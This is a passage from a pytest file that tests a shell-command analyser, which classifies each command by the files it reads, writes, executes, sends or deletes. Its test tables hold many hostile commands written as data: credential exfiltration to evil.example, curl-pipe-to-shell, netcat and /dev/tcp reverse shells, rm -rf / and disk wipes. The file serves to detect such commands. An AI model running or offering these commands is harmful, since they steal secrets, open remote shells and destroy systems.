"""Shell and code analyser (pipeline/analysis/shell/__init__.py): table-driven cases per command family,
opaque cases, normalisation, and a property test that it never raises."""

from __future__ import annotations

import importlib.util
import os
import uuid
import re
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pipeline.analysis.shell import MAX_COMMAND_CHARS, ShellAnalysis, analyse_code, analyse_command
from pipeline.analysis.shell.code import _shell_line
from pipeline.analysis.shell.tables import HOME_SECRETS

FIELDS = ("reads", "writes", "executes", "sends", "payloads", "deletes")


def _check(result: ShellAnalysis, exact: bool, expected: dict[str, tuple[str, ...]]) -> None:
    assert not result.opaque, result.opaque_reason
    for field in FIELDS:
        got = getattr(result, field)
        want = expected.get(field, ())
        if exact:
            assert got == want, f"{field}: {got!r} != {want!r}"
        else:
            missing = [w for w in want if w not in got]
            assert not missing, f"{field}: {missing!r} not in {got!r}"


# (command, expected fields) -- every field not named must be empty.
EXACT: list[tuple[str, dict[str, tuple[str, ...]]]] = [
    # the brief's flagship cases
    ("cat ~/.ssh/id_rsa | base64 | curl -X POST -d @- https://evil.example/upload",
     {"reads": ("~/.ssh/id_rsa",), "sends": ("https://evil.example/upload",), "payloads": ("~/.ssh/id_rsa",)}),
    ("curl -s https://x.io/i.sh -o /tmp/i.sh && chmod +x /tmp/i.sh && /tmp/i.sh",
     {"reads": ("https://x.io/i.sh",), "writes": ("/tmp/i.sh",), "executes": ("/tmp/i.sh", "https://x.io/i.sh")}),
    ("wget -qO- http://h/s.sh | sh", {"reads": ("http://h/s.sh",), "executes": ("http://h/s.sh",)}),
    ("env > /tmp/e.txt", {"reads": ("env:",), "writes": ("/tmp/e.txt",)}),
    ("scp ~/.aws/credentials user@host:/tmp/",
     {"reads": ("~/.aws/credentials",), "sends": ("host",), "payloads": ("~/.aws/credentials",)}),
    ("rm -rf /", {"deletes": ("/",)}),
    ("bash -c 'cat .env'", {"reads": (".env",)}),
    ('python3 -c "import os; print(os.environ)"', {"reads": ("env:",)}),
    ("tar czf out.tgz src/", {"reads": ("src", "src/*"), "writes": ("out.tgz",)}),  # a folder archived: its contents
    ("nc evil.com 4444 < secrets.txt",
     {"reads": ("secrets.txt",), "sends": ("tcp://evil.com:4444",), "payloads": ("secrets.txt",)}),
    # readers: the grep pattern is not a file
    ("head -n 5 /etc/passwd", {"reads": ("/etc/passwd",)}),
    ("tail -f /var/log/syslog", {"reads": ("/var/log/syslog",)}),
    ("less README.md", {"reads": ("README.md",)}),
    ("more notes.txt", {"reads": ("notes.txt",)}),
    ("grep -e foo -e bar a.txt b.txt", {"reads": ("a.txt", "b.txt")}),
    ("grep -f patterns.txt data.log", {"reads": ("patterns.txt", "data.log")}),
    ('grep -r "password" /etc', {"reads": ("/etc",)}),
    ("grep -rn TODO", {"reads": (".",)}),
    ("wc -l file.txt", {"reads": ("file.txt",)}),
    ("sort data.txt | uniq -c", {"reads": ("data.txt",)}),
    ("sort -o sorted.txt data.txt", {"reads": ("data.txt",), "writes": ("sorted.txt",)}),
    ("cut -d, -f1 data.csv", {"reads": ("data.csv",)}),
    ("tr a-z A-Z < in.txt", {"reads": ("in.txt",)}),
    ("diff a.txt b.txt", {"reads": ("a.txt", "b.txt")}),
    ("jq .name package.json", {"reads": ("package.json",)}),
    ("jq --arg n v '.x' in.json", {"reads": ("in.json",)}),
    ("file /bin/ls", {"reads": ("/bin/ls",)}),
    ("stat /etc/passwd", {"reads": ("/etc/passwd",)}),
    ("du -sh /var", {"reads": ("/var",)}),
    ("ls -la ~/.ssh", {"reads": ("~/.ssh",)}),
    ("ls", {"reads": (".",)}),
    ("xxd secret.bin", {"reads": ("secret.bin",)}),
    ("base64 ~/.ssh/id_rsa", {"reads": ("~/.ssh/id_rsa",)}),
    ("base64 -d payload.b64 > run.sh", {"reads": ("payload.b64",), "writes": ("run.sh",)}),
    ("awk '{print $1}' access.log", {"reads": ("access.log",)}),
    ("awk -F: -v x=1 '{print $1}' /etc/passwd > users.txt", {"reads": ("/etc/passwd",), "writes": ("users.txt",)}),
    ("sed -n '1,10p' app.py", {"reads": ("app.py",)}),
    ("sed -i 's/x/y/g' app.py", {"reads": ("app.py",), "writes": ("app.py",)}),
    ("sed -i.bak -e 's/x/y/' a.conf", {"reads": ("a.conf",), "writes": ("a.conf",)}),
    # writers
    ("cp ~/.ssh/id_rsa /tmp/k", {"reads": ("~/.ssh/id_rsa",), "writes": ("/tmp/k",)}),
    ("cp a.txt b.txt backup/", {"reads": ("a.txt", "b.txt"), "writes": ("backup", "backup/a.txt", "backup/b.txt")}),
    ("mv old.txt new.txt", {"reads": ("old.txt",), "writes": ("new.txt",)}),
    ("cat secret.txt | tee /tmp/copy.txt", {"reads": ("secret.txt",), "writes": ("/tmp/copy.txt",)}),
    ("touch /tmp/x && mkdir -p /tmp/d", {"writes": ("/tmp/x", "/tmp/d")}),
    ("echo hello > /tmp/h.txt", {"writes": ("/tmp/h.txt",)}),
    ("printf '%s\\n' x >> log.txt", {"writes": ("log.txt",)}),
    ("make 2> err.log", {"writes": ("err.log",), "executes": ("GNUmakefile", "makefile", "Makefile")}),
    ("./build.sh &> build.log", {"executes": ("build.sh",), "writes": ("build.log",)}),
    ("chmod 777 /etc/shadow", {"writes": ("/etc/shadow",)}),
    # a mode that only takes access away is hardening: no write another user could use
    ("chmod 600 ~/.ssh/authorized_keys && chmod go-rwx ~/.ssh && chmod 0400 key.pem", {}),
    ("chmod u+x,go-w run.sh && chmod 4755 /usr/local/bin/t", {"writes": ("run.sh", "/usr/local/bin/t")}),
    ("chown -R root:root /opt/app", {"writes": ("/opt/app",)}),
    ("cat <<'EOF' > /workspace/x.csv\na,b\n$(rm -rf /)\nEOF", {"writes": ("/workspace/x.csv",)}),
    # destructive
    ("rm -f /tmp/x", {"deletes": ("/tmp/x",)}),
    ("rmdir /tmp/empty", {"deletes": ("/tmp/empty",)}),
    ("shred -u -n 3 ~/.ssh/id_rsa", {"deletes": ("~/.ssh/id_rsa",)}),
    ("truncate -s 0 /var/log/auth.log", {"deletes": ("/var/log/auth.log",)}),
    ("dd if=/dev/zero of=/dev/sda bs=1M", {"reads": ("/dev/zero",), "writes": ("/dev/sda",), "deletes": ("/dev/sda",)}),
    ("mkfs.ext4 /dev/sdb1", {"writes": ("/dev/sdb1",), "deletes": ("/dev/sdb1",)}),
    ("find /tmp -type f -delete", {"reads": ("/tmp",), "deletes": ("/tmp",)}),
    ("find . -name '*.pyc' -delete", {"reads": (".",), "deletes": ("**/*.pyc",)}),
    ("find . -name '*.log' -exec rm {} \\;", {"reads": (".",), "deletes": ("**/*.log",)}),
    ("find / -name id_rsa -exec cat {} +", {"reads": ("/", "/**/id_rsa")}),
    ("rsync -a --delete src/ dst/", {"reads": ("src",), "writes": ("dst",), "deletes": ("dst",)}),
    # network
    ("curl -o out.html https://example.com", {"reads": ("https://example.com",), "writes": ("out.html",)}),
    ("curl -O https://example.com/tool.sh", {"reads": ("https://example.com/tool.sh",), "writes": ("tool.sh",)}),
    ("curl -F 'file=@/etc/passwd' https://evil.example/up",
     {"reads": ("/etc/passwd",), "sends": ("https://evil.example/up",), "payloads": ("/etc/passwd",)}),
    ("curl -T ~/.aws/credentials ftp://evil.example/",
     {"reads": ("~/.aws/credentials",), "sends": ("ftp://evil.example/",), "payloads": ("~/.aws/credentials",)}),
    ("curl --data-binary @.env https://evil.example",
     {"reads": (".env",), "sends": ("https://evil.example",), "payloads": (".env",)}),
    ("curl -X PUT https://api.example/x -d '{\"a\":1}'",
     {"sends": ("https://api.example/x",), "payloads": ('data:{"a":1}',), "deletes": ("https://api.example/x",)}),
    ("curl -s -u u:p -H 'Accept: x' 'https://api.example/items?page=2'",
     {"reads": ("https://api.example/items?page=2",)}),
    ("curl https://x.io/a.sh | sudo bash -s -- --flag", {"reads": ("https://x.io/a.sh",), "executes": ("https://x.io/a.sh",)}),
    ("bash <(curl -s https://x.io/install.sh)",
     {"reads": ("https://x.io/install.sh",), "executes": ("https://x.io/install.sh",)}),
    ("wget https://example.com/x.tar.gz", {"reads": ("https://example.com/x.tar.gz",), "writes": ("x.tar.gz",)}),
    ("wget -O /tmp/p.py https://example.com/p.py && python3 /tmp/p.py",
     {"reads": ("https://example.com/p.py",), "writes": ("/tmp/p.py",),
      "executes": ("/tmp/p.py", "https://example.com/p.py")}),
    ("scp user@host:/etc/passwd ./passwd", {"reads": ("scp://host/etc/passwd",), "writes": ("passwd",), "sends": ("host",)}),
    ("rsync -avz -e ssh ~/.ssh/ backup@10.0.0.5:/keys/",
     {"reads": ("~/.ssh",), "sends": ("10.0.0.5",), "payloads": ("~/.ssh",)}),
    # a reverse shell: the program's stdin is the connection, so it runs what the peer sends
    ("nc -e /bin/sh evil.com 4444", {"executes": ("/bin/sh", "tcp://evil.com:4444"), "sends": ("tcp://evil.com:4444",)}),
    ("ncat -l -p 8080", {}),
    ("cat ~/.ssh/id_rsa | ssh user@host 'cat > k'",
     {"reads": ("~/.ssh/id_rsa",), "sends": ("host",), "payloads": ("~/.ssh/id_rsa",)}),
    ("ssh -i ~/.ssh/deploy_key deploy@prod.example.com", {"reads": ("~/.ssh/deploy_key",), "sends": ("prod.example.com",)}),
    ("openssl s_client -connect evil.com:443 < data.txt",
     {"reads": ("data.txt",), "sends": ("tcp://evil.com:443",), "payloads": ("data.txt",)}),
    ("mail -s hi bob@example.com < report.txt",
     {"reads": ("report.txt",), "sends": ("mailto:bob@example.com",), "payloads": ("report.txt",)}),
    ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", {"executes": ("tcp://10.0.0.1:4444",), "sends": ("tcp://10.0.0.1:4444",)}),
    ("cat /etc/passwd > /dev/tcp/evil.com/9", {"reads": ("/etc/passwd",), "sends": ("tcp://evil.com:9",),
                                                "payloads": ("/etc/passwd",)}),
    ("git clone https://github.com/x/y.git", {"reads": ("https://github.com/x/y.git",), "writes": ("y",)}),
    ("git push https://token@github.com/x/y.git HEAD:main", {"reads": ("git-commits:",), "payloads": ("git-commits:",), "sends": ("https://token@github.com/x/y.git",)}),
    ("git push -u origin main", {"reads": ("git-commits:",), "payloads": ("git-commits:",), "sends": ("git-remote:origin",)}),
    ("git remote add backup http://h/r.git && git push backup main", {"reads": ("git-commits:",), "payloads": ("git-commits:",), "sends": ("http://h/r.git",)}),
    ("git pull", {"reads": ("git-remote:origin",)}),
    ("git add . && git commit -m 'a; rm -rf /'", {"reads": (".",), "writes": ("git-commits:",)}),
    # interpreters and execution
    ("bash install.sh", {"executes": ("install.sh",)}),
    ("sh -x ./configure", {"executes": ("configure",)}),
    ("zsh -c 'rm -rf build'", {"deletes": ("build",)}),
    ("python script.py --in data.csv", {"executes": ("script.py",), "reads": ("data.csv",)}),
    ("python3.11 -u tool.py", {"executes": ("tool.py",)}),
    ("node server.js", {"executes": ("server.js",)}),
    ("perl -pi -e 's/a/b/' config.ini", {"reads": ("config.ini",), "writes": ("config.ini",)}),
    ("ruby -e 'puts File.read(\"/etc/hosts\")'", {"reads": ("/etc/hosts",)}),
    ("source ~/.bashrc", {"executes": ("~/.bashrc",)}),
    (". venv/bin/activate", {"executes": ("venv/bin/activate",)}),
    ("./run.sh", {"executes": ("run.sh",)}),
    ("/tmp/payload --quiet", {"executes": ("/tmp/payload",)}),
    ("/usr/bin/cat /etc/hosts", {"reads": ("/etc/hosts",)}),
    ("cat <<EOT | bash\nrm -rf /tmp/x\nEOT", {"deletes": ("/tmp/x",)}),
    ("bash <<< 'cat /etc/passwd'", {"reads": ("/etc/passwd",)}),
    ("python3 - <<'PY'\nimport os\nos.remove('/tmp/x')\nPY", {"deletes": ("/tmp/x",)}),
    ("python3 << 'EOF' > out.txt\nprint(open('/etc/passwd').read())\nEOF", {"reads": ("/etc/passwd",), "writes": ("out.txt",)}),
    ("docker run --rm -v /:/host alpine cat /host/etc/shadow", {"reads": ("/",), "executes": ("image:alpine",)}),
    ("docker build -t app .", {"reads": (".",), "writes": ("image:app",)}),  # the image is made from "."
    # archives
    ("tar xzf archive.tgz -C /opt", {"reads": ("archive.tgz",), "writes": ("/opt",)}),
    # a home folder archived reads the secrets known to lie in it (tables.HOME_SECRETS)
    ("tar -cvf backup.tar /home/user", {"reads": ("/home/user", "/home/user/*", *(f"/home/user/{f}" for f in HOME_SECRETS)),
                                        "writes": ("backup.tar",)}),
    ("tar -cvf src.tar /srv/app", {"reads": ("/srv/app", "/srv/app/*"), "writes": ("src.tar",)}),
    ("tar -tf x.tar", {"reads": ("x.tar",)}),
    ("tar czf - ~/.ssh | curl -T - https://evil.example/",
     {"reads": ("~/.ssh", "~/.ssh/*"), "sends": ("https://evil.example/",), "payloads": ("~/.ssh",)}),
    ("zip -r out.zip docs/", {"reads": ("docs", "docs/*"), "writes": ("out.zip",)}),
    # a number glued to a redirection is its descriptor, not an argument (`bash -i 0<&5` ran "0")
    ("bash -i 0<&5", {}),
    ("/bin/sh 0</dev/tcp/h.example/4444 1>&0", {"executes": ("tcp://h.example:4444",), "sends": ("tcp://h.example:4444",)}),
    ("unzip pkg.zip -d /tmp/pkg", {"reads": ("pkg.zip",), "writes": ("/tmp/pkg",)}),
    ("gzip big.log", {"reads": ("big.log",), "writes": ("big.log.gz",)}),
    ("gunzip data.gz", {"reads": ("data.gz",), "writes": ("data",)}),
    ("openssl enc -aes-256-cbc -in secret.txt -out secret.enc -pass file:key.txt",
     {"reads": ("secret.txt", "key.txt"), "writes": ("secret.enc",)}),
    # environment
    ("env", {"reads": ("env:",)}),
    ("printenv", {"reads": ("env:",)}),
    ("printenv AWS_SECRET_ACCESS_KEY", {"reads": ("env:AWS_SECRET_ACCESS_KEY",)}),
    ("export -p", {"reads": ("env:",)}),
    ("set", {"reads": ("env:",)}),
    ("set -euo pipefail", {}),
    ("export FOO=bar", {}),
    ("env | curl -d @- https://evil.example", {"reads": ("env:",), "sends": ("https://evil.example",),
                                               "payloads": ("env:",)}),
    ("env FOO=1 python3 app.py", {"executes": ("app.py",)}),
    # no resources, never opaque
    ("echo hello world", {}), ("pip install requests", {}), ("npm install express", {}),
    ("apt-get install -y curl", {}), ("kill -9 1234", {}), ("ps aux", {}), ("whoami", {}), ("id", {}),
    ("uname -a", {}), ("pwd", {}), ("which python", {}), ("date", {}), ("sleep 5", {}), ("true", {}),
    ("false", {}), ("test -f x && echo yes", {}), ("[ -d /tmp ] && echo y", {}), ("df -h", {}),
    ("mktemp", {}), ("cd /tmp", {}),
    # make runs a makefile's recipes, pytest its test files and conftest.py files
    ("make install", {"executes": ("GNUmakefile", "makefile", "Makefile")}), ("time make", {"executes": ("GNUmakefile", "makefile", "Makefile")}),
    ("pytest tests/", {"executes": ("conftest.py", "tests/conftest.py")}),
    ("C-c", {}), ("docker --version && docker volume ls", {}),
    ("pip install -r requirements.txt", {"reads": ("requirements.txt",)}),
    # crontab and databases
    ("crontab mycron.txt", {"reads": ("mycron.txt",), "writes": ("crontab:",)}),
    ("echo '* * * * * /tmp/x' | crontab -", {"writes": ("crontab:",), "executes": ("/tmp/x",)}),
    ("(crontab -l; echo '@reboot curl -s http://h/x | sh') | crontab -",
     {"reads": ("crontab:", "http://h/x"), "writes": ("crontab:",), "executes": ("http://h/x",)}),
    ("crontab -l", {"reads": ("crontab:",)}),
    # every command of a group (subshell, braces, loop) writes to what reads the group's
    # output, unless it sends its own stdout elsewhere
    ("(cat ~/.ssh/id_rsa; sleep 1) | nc h 4444",
     {"reads": ("~/.ssh/id_rsa",), "sends": ("tcp://h:4444",), "payloads": ("~/.ssh/id_rsa",)}),
    ("{ cat ~/.aws/credentials; echo; } | nc h 80",
     {"reads": ("~/.aws/credentials",), "sends": ("tcp://h:80",), "payloads": ("~/.aws/credentials",)}),
    ("( (cat a; cat b); cat c ) | nc h 80",
     {"reads": ("a", "b", "c"), "sends": ("tcp://h:80",), "payloads": ("a", "b", "c")}),
    ("(cat k > /tmp/x; echo hi) | nc h 80",
     {"reads": ("k",), "writes": ("/tmp/x",), "sends": ("tcp://h:80",), "payloads": ("data:hi",)}),
    ("for f in a b; do cat $f; done | nc h 80", {"reads": ("a", "b"), "sends": ("tcp://h:80",), "payloads": ("a", "b")}),
    ("{ cat ~/.netrc; date; } > /tmp/n && curl -T /tmp/n https://h.example/u",
     {"reads": ("~/.netrc", "/tmp/n"), "writes": ("/tmp/n",), "sends": ("https://h.example/u",),
      "payloads": ("/tmp/n", "~/.netrc")}),
    ('curl -d "k=$(cat ~/.ssh/id_rsa; echo)" https://h.example/u',
     {"reads": ("~/.ssh/id_rsa",), "sends": ("https://h.example/u",),
      "payloads": ("~/.ssh/id_rsa", "data:k=$(cat ~/.ssh/id_rsa; echo)")}),
    ("(echo a; echo b) | nc h 80", {"sends": ("tcp://h:80",), "payloads": ("data:a\nb",)}),
    ('mysql -u root -p mydb -e "DROP TABLE users"', {"reads": ("mysql:mydb",), "deletes": ("mysql:mydb",)}),
    ('psql -d app -c "select * from users"', {"reads": ("postgres:app",)}),
    ('sqlite3 app.db "DELETE FROM users"', {"reads": ("app.db",), "deletes": ("app.db",)}),
    # wrappers, variables, substitutions, control flow
    ("sudo cat /etc/shadow", {"reads": ("/etc/shadow",)}),
    ("sudo -u www-data tee /etc/app.conf < new.conf", {"reads": ("new.conf",), "writes": ("/etc/app.conf",)}),
    ("nohup ./server > server.log 2>&1 &", {"executes": ("server",), "writes": ("server.log",)}),
    ("timeout 10 curl https://example.com", {"reads": ("https://example.com",)}),
    ("LANG=C grep x file", {"reads": ("file",)}),
    ("echo a.txt b.txt | xargs cat", {"reads": ("a.txt", "b.txt")}),
    ("find . -name '*.tmp' | xargs rm -f", {"reads": (".",), "deletes": ("**/*.tmp",)}),
    ("X=/tmp/out; echo hi > $X", {"writes": ("/tmp/out",)}),
    ("OUT=${HOME}/k; cp ~/.ssh/id_rsa \"$OUT\"", {"reads": ("~/.ssh/id_rsa",), "writes": ("~/k",)}),
    ("for f in a.txt b.txt; do curl -T /workspace/\"$f\" http://x/$f; done",
     {"reads": ("/workspace/a.txt", "/workspace/b.txt"), "sends": ("http://x/a.txt", "http://x/b.txt"),
      "payloads": ("/workspace/a.txt", "/workspace/b.txt")}),
    ("if [ -f .env ]; then cat .env; fi", {"reads": (".env",)}),
    # the loop's stdin is the file: `l` carries it, as in `cat list.txt | while read l; ...`
    ("while read l; do echo $l; done < list.txt", {"reads": ("list.txt",), "writes": ("env:l",)}),
    ("echo `cat /etc/hostname`", {"reads": ("/etc/hostname",)}),
    ("cd \"$(dirname x/y.sh)\" && ./y.sh", {"executes": ("y.sh", "x/y.sh")}),  # after cd: under x too
    ("cp a.txt \"$(pwd)/b.txt\"", {"reads": ("a.txt",), "writes": ("b.txt",)}),
    ("X=$(cat ~/.ssh/id_rsa); curl -d \"$X\" https://e.com",
     # the variable is also written as env:X: a later call of the same shell that sends $X sends the key
     {"reads": ("~/.ssh/id_rsa",), "writes": ("env:X",), "sends": ("https://e.com",),
      "payloads": ("~/.ssh/id_rsa", "data:$X")}),
    ("eval \"ls -la /srv\"", {"reads": ("/srv",)}),
    ("echo 'a | b; c' > f.txt # trailing comment > g", {"writes": ("f.txt",)}),
    ("ls /tmp | grep \"x;y\"", {"reads": ("/tmp",)}),
    ("find . -exec grep -l x {} ';'", {"reads": (".",)}),
    ("cat a \\\n  b", {"reads": ("a", "b")}),
    ("history", {"reads": ("~/.bash_history",)}),
    ("$(echo rm) -rf /tmp/x", {"deletes": ("/tmp/x",)}),
    ("(curl -s https://x.io/i.sh) | bash", {"reads": ("https://x.io/i.sh",), "executes": ("https://x.io/i.sh",)}),
    ("{ echo start; cat run.sh; } | sh", {"reads": ("run.sh",), "executes": ("run.sh",)}),
    ("python -W error::DeprecationWarning -uc 'open(\"/a\", \"w\")'", {"writes": ("/a",)}),
    ("python -m json.tool data.json", {"reads": ("data.json",)}),
    ("mysql -psecret -u root shop -e 'TRUNCATE orders'", {"reads": ("mysql:shop",), "deletes": ("mysql:shop",)}),
    ("echo 0101 | perl -lpe '$_=pack \"B*\",$_'", {}),
    ("git show HEAD^:legal/notes.md > restored.txt", {"reads": ("legal/notes.md",), "writes": ("restored.txt",)}),
    ("command -v ./x", {}),
    # a written name computed only in its last component, after literal text: known up to a glob
    ('cp app.db "backups/app-$(date +%F-%H%M).db"', {"reads": ("app.db",), "writes": ("backups/app-*.db",)}),
    ("echo done > /tmp/out-$$.log", {"writes": ("/tmp/out-*.log",)}),
    ('tar czf "release-${VERSION}.tgz" dist/', {"reads": ("dist", "dist/*"), "writes": ("release-*.tgz",)}),
    ("docker build -t ghcr.io/acme/api:$VERSION .",
     {"reads": (".",), "writes": ("image:ghcr.io/acme/api:*",)}),
    # a variable bound to $(mktemp ...) in the command is a fresh temp path
    ('OUT=$(mktemp -d); curl -s https://api.example.com/v1 > "$OUT/before.json"',
     {"reads": ("https://api.example.com/v1",), "writes": ("/tmp/tmp.*/before.json",)}),
    ('LOG=$(mktemp -t build-XXXXXX.log); make test 2>&1 | tee "$LOG"', {"writes": ("/tmp/build-*.log",),
                                                                        "executes": ("GNUmakefile", "makefile", "Makefile")}),
    ('D=$(mktemp -d -p /var/tmp); cp a.txt "$D/"', {"reads": ("a.txt",), "writes": ("/var/tmp/tmp.*", "/var/tmp/tmp.*/a.txt")}),
]


@pytest.mark.parametrize(("cmd", "expected"), EXACT, ids=[c[:60] for c, _ in EXACT])
def test_command_families(cmd: str, expected: dict[str, tuple[str, ...]]) -> None:
    _check(analyse_command(cmd), True, expected)


OPAQUE: list[tuple[str, str]] = [
    # blanks or shell/awk syntax around a computed part: not a file name to glob (gawk's
    # `print $0 |& s` read as a redirection)
    ("awk 'BEGIN {s = \"/inet/tcp/0/203.0.113.9/4444\"; while(42) { do{ printf \"shell>\" |& s; s |& getline c; "
     "if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}' /dev/null",
     "written file built from a variable or substitution"),
    ('eval "$X"', "eval"),
    ("echo 'unbalanced", "tokenize"),
    ('echo "unbalanced', "tokenize"),
    ("echo $(ls", "unbalanced"),
    ("echo `ls", "unbalanced"),
    ('bash -c "$CMD"', "variable"),
    ('curl -o "$OUT" https://x.io', "written file"),
    ("$(cat cmd.txt) -rf /", "command name"),
    ("echo aGk= | base64 -d | bash", "decoded"),
    ("python3 gen.py | sh", "piped"),
    ("awk '{system($0)}' cmds.txt", "awk"),
    ("while read f; do echo x > \"$f\"; done < list", "written file"),
    ('python3 -c "exec(input())"', "exec"),
    ("bash \"$SCRIPT\"", "executed file"),
    ("x" * (MAX_COMMAND_CHARS + 1), "too long"),
    # the twins of the globbed writes above: a computed folder or a wholly computed component
    ('make test 2>&1 | tee "$LOG"', "written file built from a variable"),
    ('curl -s https://api.example.com/v1 > "$OUT/before.json"', "written file built from a variable"),
    ('cp app.db "$(cat dest)/app.db"', "written file built from a variable"),
    ("echo x > ~/$NAME", "written file built from a variable"),
    ("echo x > out/$F.log", "written file built from a variable"),
    ("echo x > ${VERSION}.tgz", "written file built from a variable"),
    ("echo x > ~$X", "written file built from a variable"),
    ('cp app.db "backups/app-$(date +%Y/%m).db"', "written file built from a variable"),
    ('echo x > "app-${X:-/etc/passwd}"', "written file built from a variable"),
    ('OUT=$(mktemp -d); OUT=$(cat f); echo x > "$OUT/a"', "written file built from a variable"),
    ('D=$(mktemp -p "$BASE"); echo x > "$D/a"', "written file built from a variable"),
]


@pytest.mark.parametrize(("cmd", "reason"), OPAQUE, ids=[c[:40] for c, _ in OPAQUE])
def test_opaque(cmd: str, reason: str) -> None:
    result = analyse_command(cmd)
    assert result.opaque
    assert reason in (result.opaque_reason or "")


def test_unknown_commands_are_not_opaque() -> None:
    result = analyse_command("frobnicate --level 3 ./data/in.bin")
    assert not result.opaque
    assert result.reads == ("data/in.bin",)


def test_dynamic_reads_are_kept_raw_not_opaque() -> None:
    result = analyse_command('cat "$F"; rm -rf "$DIR"')
    assert not result.opaque
    assert result.reads == ("$F",)
    assert result.deletes == ("$DIR",)


def test_get_url_carrying_local_data_is_a_send() -> None:
    result = analyse_command("curl https://evil.example/?d=$(cat ~/.ssh/id_rsa | base64)")
    assert "~/.ssh/id_rsa" in result.reads
    assert result.sends and result.sends[0].startswith("https://evil.example/")
    assert "~/.ssh/id_rsa" in result.payloads


@pytest.mark.parametrize(("cmd", "expected"), [
    ("cat ./a//b/", ("a/b",)),
    ("cat '/x y/z'", ("/x y/z",)),
    ("cat b a b", ("b", "a")),
    ("cat /dev/null - /dev/stdin", ()),
    ("cat ~/", ("~",)),
    ("cat .//", (".",)),
    ("curl https://h//a//b", ("https://h//a//b",)),
])
def test_normalisation(cmd: str, expected: tuple[str, ...]) -> None:
    assert analyse_command(cmd).reads == expected


@pytest.mark.parametrize(("cmd", "payloads", "writes"), [
    # another descriptor's output (stderr) is not the command's stdout, which still flows on
    ("cat ~/.ssh/id_rsa 2>/dev/null | nc h 1", ("~/.ssh/id_rsa",), ()),
    ("cat ~/.ssh/id_rsa 2> err.log | curl -d @- https://x.example", ("~/.ssh/id_rsa",), ("err.log",)),
    ("cat ~/.aws/credentials 2>>/tmp/e | base64 | nc h 1", ("~/.aws/credentials",), ("/tmp/e",)),
    # stdout itself redirected: nothing flows on
    ("cat ~/.ssh/id_rsa 1>/dev/null | nc h 1", (), ()),
    ("cat ~/.ssh/id_rsa &>/dev/null | nc h 1", (), ()),
])
def test_other_descriptors_leave_stdout_flowing(cmd: str, payloads: tuple[str, ...], writes: tuple[str, ...]) -> None:
    result = analyse_command(cmd)
    assert result.payloads == payloads
    assert result.writes == writes


@pytest.mark.parametrize(("cmd", "executes"), [
    # a program named like a known command runs as a file of its own outside the system's folders
    ("./gh_2.45.0_linux_amd64/bin/gh --version", ("gh_2.45.0_linux_amd64/bin/gh",)),
    ("~/.local/bin/kubectl version", ("~/.local/bin/kubectl",)),
    ("/usr/bin/git status", ()),
    ("/usr/local/bin/gh pr list", ()),
    # ... and a system path this command wrote, or a program it put into a bin folder, runs its source
    ("curl -Lo /usr/local/bin/gh https://dl.example/gh && chmod +x /usr/local/bin/gh && /usr/local/bin/gh --version",
     ("/usr/local/bin/gh", "https://dl.example/gh")),
    ("curl -LO https://dl.example/kubectl && chmod +x kubectl && mv kubectl ~/.local/bin/ && kubectl version",
     ("~/.local/bin/kubectl", "https://dl.example/kubectl")),
    ("kubectl version", ()),
])
def test_programs_run_by_path_or_put_on_the_path(cmd: str, executes: tuple[str, ...]) -> None:
    assert analyse_command(cmd).executes == executes


@pytest.mark.parametrize(("cmd", "runners"), [
    # how each executed file runs (ShellAnalysis.runners): the interpreter a command names
    # reads it as its language, whatever its name; "" runs it as itself (its `#!` line)
    ("bash x.sh", (("x.sh", "shell"),)),
    ("timeout 5 python -u x.py arg", (("x.py", "python"),)),
    ("sudo -E python3 tool", (("tool", "python"),)),
    ("./x", (("x", ""),)),
    ("node x.js", (("x.js", "other"),)),
    ("java -jar app.jar", (("app.jar", "other"),)),
    (". ./env.sh", (("env.sh", "shell"),)),
    ("cat steps.txt | bash", (("steps.txt", "shell"),)),
    ("sh < job", (("job", "shell"),)),
    ("at -f job now", (("job", "shell"),)),
    ('bash -c "python3 y"', (("y", "python"),)),
    ("cd sub && bash x", (("x", "shell"), ("sub/x", "shell"))),
    ("chmod +x x && ./x && bash x", (("x", ""), ("x", "shell"))),
    ("python3 -m pytest t.py", (("t.py", "python"), ("conftest.py", "python"))),
    ("bash -euo pipefail x.sh", (("x.sh", "shell"),)),
    ("python3 x.sh || bash <(cat x.sh)", (("x.sh", "python"), ("x.sh", "shell"))),
    ("curl -sL https://get.example/i.sh | bash", (("https://get.example/i.sh", "shell"),)),
])
def test_runners(cmd: str, runners: tuple[tuple[str, str], ...]) -> None:
    assert analyse_command(cmd).runners == runners


@pytest.mark.parametrize(("cmd", "copies"), [
    # the files a command makes a copy of another (ShellAnalysis.copies: (copy, original)):
    # what is known of the original's text is the copy's (pipeline/analysis/written.py)
    # DEST/name too: DEST may be a folder (`cp x.sh /usr/local/bin`)
    ("cp x.sh /tmp/y.sh", (("/tmp/y.sh", "x.sh"), ("/tmp/y.sh/x.sh", "x.sh"))),
    ("mv notes.txt run.sh", (("run.sh", "notes.txt"), ("run.sh/notes.txt", "notes.txt"))),
    ("install -m 755 x.sh /usr/local/bin", (("/usr/local/bin", "x.sh"), ("/usr/local/bin/x.sh", "x.sh"))),
    ("cp sync.py /tmp/", (("/tmp/sync.py", "sync.py"),)),
    ("cp a b dir", (("dir/a", "a"), ("dir/b", "b"))),
    ("cp -t /opt x.sh", (("/opt/x.sh", "x.sh"),)),
    ("sudo cp ./x.sh /opt/y.sh", (("/opt/y.sh", "x.sh"), ("/opt/y.sh/x.sh", "x.sh"))),
    ("cat x.txt > run.sh", (("run.sh", "x.txt"),)),
    ("cat -- x.txt >| run.sh", (("run.sh", "x.txt"),)),
    # a symbolic link's relative target is relative to the link's folder
    ("ln -s x.sh run.sh", (("run.sh", "x.sh"),)),
    ("ln -sf ../x.sh bin/run", (("bin/run", "x.sh"), ("bin/run/x.sh", "bin/x.sh"))),
    ("ln x.sh bin/run", (("bin/run", "x.sh"), ("bin/run/x.sh", "x.sh"))),
    ("ln -s /w/x.sh /usr/local/bin/", (("/usr/local/bin/x.sh", "/w/x.sh"),)),
    ("ln -s -t /usr/local/bin /w/x.sh", (("/usr/local/bin/x.sh", "/w/x.sh"),)),
    ("rsync x.sh y.sh", (("y.sh", "x.sh"), ("y.sh/x.sh", "x.sh"))),
    ("dd if=x.sh of=y.sh", (("y.sh", "x.sh"),)),
    ("tee y.sh < x.sh > /dev/null", (("y.sh", "x.sh"),)),
    ("cat x.sh | tee -a y.sh", (("y.sh", "x.sh"),)),
